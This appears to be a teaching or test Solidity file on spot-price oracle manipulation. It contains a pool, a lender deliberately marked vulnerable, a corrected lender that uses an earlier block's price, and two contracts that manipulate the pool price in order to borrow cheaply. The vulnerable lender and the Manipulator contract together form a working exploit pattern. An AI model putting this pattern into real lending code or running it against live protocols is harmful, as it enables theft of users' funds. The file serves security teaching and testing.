// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

import {Coin} from "./Coin.sol";

/// @notice A pool of two coins by constant product, without a fee.
contract SpotPool {
    Coin public immutable coin;
    Coin public immutable money;
    uint256 public coins;
    uint256 public moneys;

    constructor(Coin coin_, Coin money_) {
        (coin, money) = (coin_, money_);
    }

    function fund() external {
        (coins, moneys) = (coin.balanceOf(address(this)), money.balanceOf(address(this)));
    }

    function sell(uint256 amount) external returns (uint256 paid) {
        paid = moneys - (coins * moneys) / (coins + amount);
        coin.transferFrom(msg.sender, address(this), amount);
        money.transfer(msg.sender, paid);
        (coins, moneys) = (coins + amount, moneys - paid);
    }

    function price() external view returns (uint256) {
        return (moneys * 1e18) / coins;
    }
}

/// @notice VULNERABLE (price manipulation): lends coins against the pool's price of this moment.
contract SpotLender {
    SpotPool public immutable pool;
    mapping(address => uint256) public debts;

    constructor(SpotPool pool_) {
        pool = pool_;
    }

    function borrow(uint256 amount) external {
        debts[msg.sender] += amount;
        uint256 worth = (amount * _price()) / 1e18;
        pool.money().transferFrom(msg.sender, address(this), 2 * worth);
        pool.coin().transfer(msg.sender, amount);
    }

    function _price() internal view virtual returns (uint256) {
        return pool.price();
    }
}

/// @notice The same, corrected: the price that was noted in a block before.
contract NotedLender is SpotLender {
    uint256 private noted;
    uint256 private at;

    constructor(SpotPool pool_) SpotLender(pool_) {}

    function note() external {
        (noted, at) = (pool.price(), block.number);
    }

    function _price() internal view override returns (uint256) {
        require(block.number > at, "noted in this block");
        return noted;
    }
}

/// @notice Sells coins to a pool and borrows from a lender that goes by it.
contract Manipulator {
    function run(SpotPool pool, SpotLender lender, uint256 sold, uint256 borrowed) external {
        pool.coin().approve(address(pool), sold);
        if (sold > 0) pool.sell(sold);
        pool.money().approve(address(lender), type(uint256).max);
        lender.borrow(borrowed);
        pool.coin().transfer(msg.sender, pool.coin().balanceOf(address(this)));
        pool.money().transfer(msg.sender, pool.money().balanceOf(address(this)));
    }
}

/// @notice Sets a market up and manipulates it, all at once and by one account: how tests of attacks do it.
contract Rehearsal {
    function run(SpotPool pool, SpotLender lender, uint256 sold, uint256 borrowed) external {
        (Coin coin, Coin money) = (pool.coin(), pool.money());
        coin.transfer(address(pool), 1000 ether);
        money.transfer(address(pool), 1000 ether);
        coin.transfer(address(lender), 10_000 ether);
        pool.fund();
        coin.approve(address(pool), sold);
        if (sold > 0) pool.sell(sold);
        money.approve(address(lender), type(uint256).max);
        lender.borrow(borrowed);
    }
}
